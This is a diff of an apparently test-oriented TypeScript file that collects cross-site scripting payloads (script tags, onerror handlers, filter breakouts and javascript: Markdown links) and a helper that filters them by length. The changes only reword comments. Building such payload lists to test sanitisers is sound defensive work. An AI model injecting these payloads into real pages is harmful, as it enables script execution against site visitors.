@@ -1,12 +1,12 @@
 /**
  * Texts that try to run a script in a page that shows them, by the known classes of such attacks, in HTML and in
- * Markdown. Any of them that runs sets `window.harmed`, opens a dialog, or asks for something at `evil.example`.
+ * Markdown. A successful one sets `window.harmed`, opens a dialog, or requests something at `evil.example`.
  */
 const js = 'window.harmed=1'
 const address = `javascript:${js}`
 const evil = 'https://evil.example'
 
-/** Elements and event handlers, as they would stand in a page. */
+/** Elements and event handlers, as they would appear in a page. */
 const elements = [
   `<script>${js}</script>`,
   `<SCRIPT SRC=${evil}/x.js></SCRIPT>`,
@@ -80,7 +80,7 @@ const elements = [
   `<portal src="${evil}"></portal>`,
 ]
 
-/** What tries to get through the parser of a filter rather than past its list. */
+/** Attacks on the parser of a filter instead of its list. */
 const breakouts = [
   `"><script>${js}</script>`,
   `'><img src=x onerror=${js}>`,
@@ -116,7 +116,7 @@ const breakouts = [
   `</script>{"__proto__":{"harmed":1}}`,
 ]
 
-/** Markdown that would become something that runs. */
+/** Markdown that would become a running script. */
 const markdown = [
   `[x](${address})`,
   `[x](JaVaScRiPt:${js})`,
@@ -203,7 +203,7 @@ const markdown = [
 /** Every payload; each is a text of a few lines at most. */
 export const xssPayloads: readonly string[] = [...elements, ...breakouts, ...markdown]
 
-/** Payloads that fit a field of one line, such as a name or a title, of at most this many characters. */
+/** Returns payloads that fit a field of one line, such as a name or a title, of at most this many characters. */
 export function shortXssPayloads(most: number): string[] {
   return xssPayloads.filter((payload) => payload.length <= most && !/[\n\r\t]/.test(payload))
 }
